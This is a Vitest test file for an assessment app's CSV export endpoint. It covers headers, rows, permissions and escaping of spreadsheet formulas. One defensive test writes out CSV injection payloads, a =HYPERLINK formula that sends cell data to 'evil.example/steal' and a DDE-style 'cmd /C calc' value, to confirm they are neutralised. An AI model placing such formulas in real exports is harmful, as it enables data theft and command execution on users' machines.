import { describe, expect, it } from 'vitest';
import { csvFileName, neutraliseFormula } from '../src/modules/assessments/export.routes.js';
import { answerAll, putAnswer, useAssessmentTeam } from './assessment-factories.js';
import { useTestApp } from './build-test-app.js';
import { call } from './factories.js';

const ctx = useTestApp();
const team = useAssessmentTeam(ctx);

/** A small RFC 4180 reader, so that the test does not trust the writer it checks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') {
        quoted = false;
      } else {
        cell += ch;
      }
    } else if (ch === '"') {
      quoted = true;
    } else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else if (ch !== '\r') {
      cell += ch;
    }
  }
  if (cell !== '' || row.length > 0) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

const url = () => `/assessments/${team.assessment.id}/export.csv`;

function table(body: string) {
  const rows = parseCsv(body.replace(/^\uFEFF/, ''));
  const [header, ...data] = rows;
  if (!header) throw new Error('no header');
  return data.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i] ?? ''])));
}

describe('GET /assessments/:assessmentId/export.csv', () => {
  it('answers UTF-8 CSV with a BOM, a header row and a download name', async () => {
    const res = await call(ctx, team.viewer, 'GET', url());
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(
      'attachment; filename="waymark-anchor-self-assessment-2026-revision-1.csv"',
    );
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const header = parseCsv(res.body.replace(/^\uFEFF/, ''))[0];
    expect(header?.slice(0, 6)).toEqual([
      'Section',
      'Pillar',
      'Criterion ID',
      'Criterion',
      'Level',
      'Level name',
    ]);
  });

  it('has a row per applicable criterion, per pillar score, the overall score and each action', async () => {
    await answerAll(ctx, team.contributor, team.assessment, (id, i) =>
      id === 'flexible-work'
        ? { level: null, notApplicable: { reason: 'Plant runs shifts' } }
        : id === 'secure-contracts'
          ? {
              level: 2,
              targetLevel: 3,
              notes: 'Zero-hours contracts ended in 2025 — “café” staff included',
              evidenceLinks: ['https://example.org/a', 'https://example.org/b'],
              indicators: { 'living-wage-staff-share': 88 },
            }
          : { level: (i % 4) + 1 },
    );
    await call(ctx, team.admin, 'POST', `/assessments/${team.assessment.id}/actions`, {
      criterionId: 'secure-contracts',
      title: 'Guarantee hours',
      ownerUserId: team.contributor.id,
      dueDate: '2027-01-31',
    });
    const rows = table((await call(ctx, team.admin, 'GET', url())).body);
    const answerRows = rows.filter((r) => r.Section === 'Answer');
    expect(answerRows.map((r) => r['Criterion ID'])).toEqual(team.assessment.criterionIds);
    expect(answerRows.find((r) => r['Criterion ID'] === 'secure-contracts')).toMatchObject({
      Pillar: 'Employment',
      Level: '2',
      'Level name': 'Developing',
      'Target level': '3',
      'Target level name': 'Embedding',
      Notes: 'Zero-hours contracts ended in 2025 — “café” staff included',
      'Evidence links': 'https://example.org/a\nhttps://example.org/b',
      Indicators: '% of staff paid at least the real Living Wage: 88',
    });
    expect(answerRows.find((r) => r['Criterion ID'] === 'flexible-work')).toMatchObject({
      Level: '',
      'Level name': 'Not applicable',
      'Not applicable reason': 'Plant runs shifts',
    });

    const results = (
      await call(ctx, team.admin, 'GET', `/assessments/${team.assessment.id}/results`)
    ).json();
    const pillarRows = rows.filter((r) => r.Section === 'Pillar score');
    expect(pillarRows.map((r) => [r.Pillar, Number(r.Score), r.Stage])).toEqual(
      results.pillars.map((p: { title: string; score: number; stage: { name: string } }) => [
        p.title,
        p.score,
        p.stage.name,
      ]),
    );
    const overall = rows.find((r) => r.Section === 'Overall score');
    expect(Number(overall?.Score)).toBe(results.overall.score);
    const actionRows = rows.filter((r) => r.Section === 'Action');
    expect(actionRows).toEqual([
      expect.objectContaining({
        'Criterion ID': 'secure-contracts',
        Action: 'Guarantee hours',
        Owner: 'Cy Contributor',
        'Due date': '2027-01-31',
        'Action status': 'planned',
      }),
    ]);
  });

  it('neutralises text a spreadsheet would run as a formula', async () => {
    await putAnswer(ctx, team.admin, team.assessment.id, 'secure-contracts', {
      level: 2,
      notes: '=HYPERLINK("https://evil.example/steal?d="&A1,"Click me")',
      version: 0,
    });
    await putAnswer(ctx, team.admin, team.assessment.id, 'flexible-work', {
      level: null,
      notApplicable: { reason: '@SUM(1+1)*cmd|" /C calc"!A0' },
      version: 0,
    });
    await putAnswer(ctx, team.admin, team.assessment.id, 'progression', {
      level: 1,
      notes: '+1',
      version: 0,
    });
    await putAnswer(ctx, team.admin, team.assessment.id, 'health-and-wellbeing', {
      level: 1,
      notes: '\t-2+3',
      version: 0,
    });
    await call(ctx, team.admin, 'POST', `/assessments/${team.assessment.id}/actions`, {
      criterionId: 'secure-contracts',
      title: '-cmd',
    });
    const res = await call(ctx, team.admin, 'GET', url());
    const rows = table(res.body);
    const byId = (id: string) =>
      rows.find((r) => r.Section === 'Answer' && r['Criterion ID'] === id);
    expect(byId('secure-contracts')?.Notes).toBe(
      `'=HYPERLINK("https://evil.example/steal?d="&A1,"Click me")`,
    );
    expect(byId('flexible-work')?.['Not applicable reason']).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(byId('progression')?.Notes).toBe("'+1");
    expect(byId('health-and-wellbeing')?.Notes).toBe("'\t-2+3");
    expect(rows.find((r) => r.Section === 'Action')?.Action).toBe("'-cmd");
    expect(res.body).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it.each(['admin', 'contributor', 'viewer'] as const)('a %s may export', async (who) => {
    expect((await call(ctx, team[who], 'GET', url())).statusCode).toBe(200);
  });

  it('an outsider → 404, unauthenticated → 401, a bad id → 400', async () => {
    const outsider = await call(ctx, team.outsider, 'GET', url());
    expect(outsider.statusCode).toBe(404);
    expect(outsider.headers['content-type']).toMatch(/application\/problem\+json/);
    expect((await call(ctx, null, 'GET', url())).statusCode).toBe(401);
    expect((await call(ctx, team.admin, 'GET', '/assessments/abc/export.csv')).statusCode).toBe(
      400,
    );
  });
});

describe('neutraliseFormula and csvFileName', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+44 113 000', "'+44 113 000"],
    ['-5', "'-5"],
    ['@A1', "'@A1"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ['plain text', 'plain text'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('%j → %j', (input, output) => {
    expect(neutraliseFormula(input)).toBe(output);
  });

  it('makes a safe ASCII file name', () => {
    expect(csvFileName('Révision "2026" / Leeds', 3)).toBe(
      'waymark-revision-2026-leeds-revision-3.csv',
    );
    expect(csvFileName('日本', 1)).toBe('waymark-assessment-revision-1.csv');
  });
});
